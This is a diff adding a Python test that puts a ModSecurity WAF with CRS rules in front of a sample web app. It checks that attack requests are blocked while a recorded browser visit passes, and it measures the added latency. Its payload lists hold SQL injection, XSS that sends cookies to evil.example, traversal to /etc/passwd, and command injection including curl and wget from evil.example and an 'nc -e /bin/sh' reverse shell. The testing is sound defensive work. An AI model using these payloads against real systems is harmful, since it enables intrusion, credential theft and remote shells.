@@ -1,0 +1,218 @@
+"""A WAF on the crate zentinel-modsec with the rules of Debian's package
+modsecurity-crs, in front of a small web application: attacks are blocked and
+never reach it, a visit recorded with a browser passes. What it costs goes to
+build/interop/waf.txt. Built by tests/interop/build."""
+import base64
+import json
+import os
+import shutil
+import statistics
+import subprocess
+import time
+
+from lib import ROOT, Raw, Skip, can_connect, check, eq, wait_for
+from test_interop import BUILT, built
+
+APP = os.path.join(ROOT, "tests/interop/app")
+RULES = os.path.join(ROOT, "tests/interop/waf/rules.conf")
+FORM = "application/x-www-form-urlencoded"
+BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"),
+           ("Accept", "text/html,*/*;q=0.8"), ("Accept-Language", "en")]
+
+# Where: path and query as the target; headers; or a body of a type.
+SQL = (
+    "1' OR '1'='1", "1 UNION SELECT username,password FROM users-- ",
+    "1; DROP TABLE users; --", "' OR sleep(5)-- ",
+    "1' AND extractvalue(1,concat(0x7e,version()))-- ",
+    "admin'/**/OR/**/1=1#")
+XSS = (
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>", "javascript:alert(1)//<a href=",
+    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
+    "\"><iframe src=javascript:alert(1)></iframe>",
+    "<body onload=alert(1)>")
+TRAVERSAL = (
+    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
+    "/etc/shadow", "..%2f..%2f..%2fetc%2fpasswd")
+COMMAND = (
+    "; cat /etc/passwd", "$(curl http://evil.example/x.sh)",
+    "| wget http://evil.example/a -O /tmp/a", "`id`; /bin/bash -i",
+    "&& nc -e /bin/sh 192.0.2.1 4444")
+
+
+def quote(text):
+    return "".join(c if c.isalnum() else "%%%02x" % ord(c) for c in text)
+
+
+def multipart(name, filename, data):
+    return ("multipart/form-data; boundary=b0undary", (
+        '--b0undary\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s'
+        '\r\n--b0undary--\r\n' % (name, filename, data)).encode())
+
+
+def attacks():
+    """(kind, where, method, target, headers, body)."""
+    for kind, words in (("sql", SQL), ("xss", XSS), ("traversal", TRAVERSAL),
+                        ("command", COMMAND)):
+        for w in words:
+            yield kind, "query", "GET", "/search?q=" + quote(w), [], None
+            yield (kind, "form", "POST", "/comment", [("Content-Type", FORM)],
+                   b"name=Eve&text=" + quote(w).encode())
+        w = words[0]
+        yield (kind, "json", "POST", "/api/items",
+               [("Content-Type", "application/json")],
+               json.dumps({"name": "x", "note": {"more": [w]}}).encode())
+        ctype, body = multipart("title", "", w)
+        yield (kind, "multipart", "POST", "/upload",
+               [("Content-Type", ctype)], body)
+        yield (kind, "name", "GET", "/search?%s=1" % quote(w), [], None)
+    for w in (SQL[0], XSS[0], TRAVERSAL[0], COMMAND[0]):
+        yield ("cookie", "cookie", "GET", "/account",
+               [("Cookie", "session=" + quote(w))], None)
+    for where, target in (
+            ("path", "/files/..%2f..%2f..%2fetc/passwd"),
+            ("path", "/item/%3Cscript%3Ealert(1)%3C/script%3E"),
+            ("path", "/backup/.htpasswd"), ("path", "/.htaccess"),
+            ("path", "/wp-config.php"), ("path", "/item/..%5c..%5cboot.ini"),
+            ("path", "/cgi-bin/../../../../bin/sh")):
+        yield "path", where, "GET", target, [], None
+    shellshock = "() { :; }; /bin/bash -c 'cat /etc/passwd'"
+    for n, v in (("User-Agent", "sqlmap/1.7"), ("User-Agent", shellshock),
+                 ("Referer", "http://x/?" + XSS[0]),
+                 ("User-Agent", XSS[0]), ("User-Agent", "Nikto/2.5"),
+                 ("X-Theme", TRAVERSAL[0]),
+                 ("Referer", "http://x/?q=" + SQL[1])):
+        yield "header", n.lower(), "GET", "/", [(n, v)], None
+
+
+class Guarded:
+    """The application behind the WAF, and beside it without."""
+
+    def __init__(self, env):
+        waf = built("waf")
+        if not os.path.exists("/usr/share/modsecurity-crs/rules"):
+            raise Skip("no rules here (modsecurity-crs)")
+        self.log = env.path("app.log")
+        port = env.port()
+        env.spawn(["python3", os.path.join(APP, "app.py"), str(port),
+                   self.log])
+        sock = env.path("waf.sock")
+        env.spawn([waf, sock, RULES])
+        wait_for(lambda: os.path.exists(sock) and can_connect(port),
+                 "the WAF and the application", 60)
+        c = env.config(port, {"waf": {"timeout": "10s"}})
+        use = {"name": "waf", "request_body": "hold", "max_body": "8MiB"}
+        c["routes"] = [
+            {"name": "bare", "upstream": "app", "agents": [],
+             "match": {"host": "bare.example"}},
+            {"name": "guarded", "upstream": "app", "agents": [use]}]
+        self.d = env.start(c)
+
+    def ask(self, method, target, headers=(), body=None, **more):
+        names = [n for n, _ in headers]
+        headers = [h for h in BROWSER if h[0] not in names] + list(headers)
+        c = Raw(self.d.port)
+        c.request(method, target, headers, body, **more)
+        r = c.response(method)
+        c.close()
+        return r
+
+    def seen(self):
+        with open(self.log) as f:
+            return [json.loads(line) for line in f]
+
+
+def test_interop_waf_attacks(env):
+    g = Guarded(env)
+    eq(g.ask("GET", "/search?q=tea").status, 200)
+    eq(len(g.seen()), 1)
+    kinds, passed = {}, []
+    for kind, where, method, target, headers, body in attacks():
+        r = g.ask(method, target, headers, body)
+        if r.status != 403 and not (kind == "path" and r.status == 400):
+            passed.append((r.status, kind, where, target, headers, body))
+        kinds[kind] = kinds.get(kind, 0) + 1
+    check(not passed, "passed:\n" + "\n".join(map(str, passed)))
+    eq(len(g.seen()), 1, "the application")
+    check(sum(kinds.values()) >= 50, kinds)
+    eq(g.d.metric("agent_failures_total", agent="waf"), 0)
+    print("blocked: %d attacks, %r" % (sum(kinds.values()), kinds))
+
+
+def visit():
+    with open(os.path.join(APP, "visit.jsonl")) as f:
+        return [json.loads(line) for line in f]
+
+
+def replay(g, host=None):
+    """The recorded visit on one connection; time of each request."""
+    c, times = Raw(g.d.port), []
+    for x in visit():
+        body = base64.b64decode(x["body"])
+        headers = [(n, v) for n, v in x["headers"] if n != "Host"]
+        began = time.monotonic()
+        c.request(x["method"], x["target"], headers, body or None,
+                  host=host or "shop.example")
+        r = c.response(x["method"])
+        times.append(((time.monotonic() - began) * 1e6, len(body)))
+        eq(r.status, x["status"], "%s %s: %r" % (x["method"], x["target"],
+                                                 r.headers))
+    c.close()
+    return times
+
+
+def test_interop_waf_visit(env):
+    """What the browser sent, uploads included, reaches the application as it
+    was."""
+    g = Guarded(env)
+    replay(g)
+    want = visit()
+    wait_for(lambda: len(g.seen()) == len(want), "the application's log")
+    for x, y in zip(want, g.seen()):
+        eq((y["method"], y["target"], y["body"] == x["body"]),
+           (x["method"], x["target"], True))
+    eq(g.d.metric("agent_decisions_total", agent="waf", decision="block"), 0)
+    eq(g.d.metric("agent_failures_total", agent="waf"), 0)
+
+
+def test_interop_waf_browser(env):
+    """The same visit by a real browser, if there is one."""
+    chromium = shutil.which("chromium")
+    if not chromium:
+        raise Skip("no chromium here")
+    g = Guarded(env)
+    p = subprocess.run(
+        [chromium, "--headless", "--no-sandbox", "--disable-gpu",
+         "--disable-dev-shm-usage", "--user-data-dir=" + env.path("profile"),
+         "--host-resolver-rules=MAP shop.example 127.0.0.1",
+         "--virtual-time-budget=30000", "--dump-dom",
+         "http://shop.example:%d/tour" % g.d.port],
+        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
+        timeout=120)
+    check("tour: ok" in p.stdout, p.stdout[-500:])
+    eq(g.d.metric("agent_decisions_total", agent="waf", decision="block"), 0)
+
+
+def test_interop_waf_time(env):
+    """What the WAF adds to a request of the visit."""
+    g = Guarded(env)
+    rounds = {"bare.example": [], "shop.example": []}
+    replay(g)
+    for _ in range(8):
+        for host, all_times in rounds.items():
+            all_times.append(replay(g, host))
+    text = ["The WAF's time per request of the visit, median of 8 rounds, us:",
+            "%-24s %8s %8s %8s" % ("requests", "without", "with", "added")]
+    bare, guarded = rounds.values()
+    for name, pick in (("without body", lambda n: n == 0),
+                       ("body up to 1 KiB", lambda n: 0 < n <= 1024),
+                       ("body over 1 KiB", lambda n: n > 1024)):
+        a, b = ([statistics.median(r[i][0] for r in rr)
+                 for i in range(len(rr[0])) if pick(rr[0][i][1])]
+                for rr in (bare, guarded))
+        a, b = statistics.mean(a), statistics.mean(b)
+        text.append("%-24s %8.0f %8.0f %8.0f" % (name, a, b, b - a))
+    text = "\n".join(text) + "\n"
+    with open(os.path.join(BUILT, "waf.txt"), "w") as f:
+        f.write(text)
+    print(text)
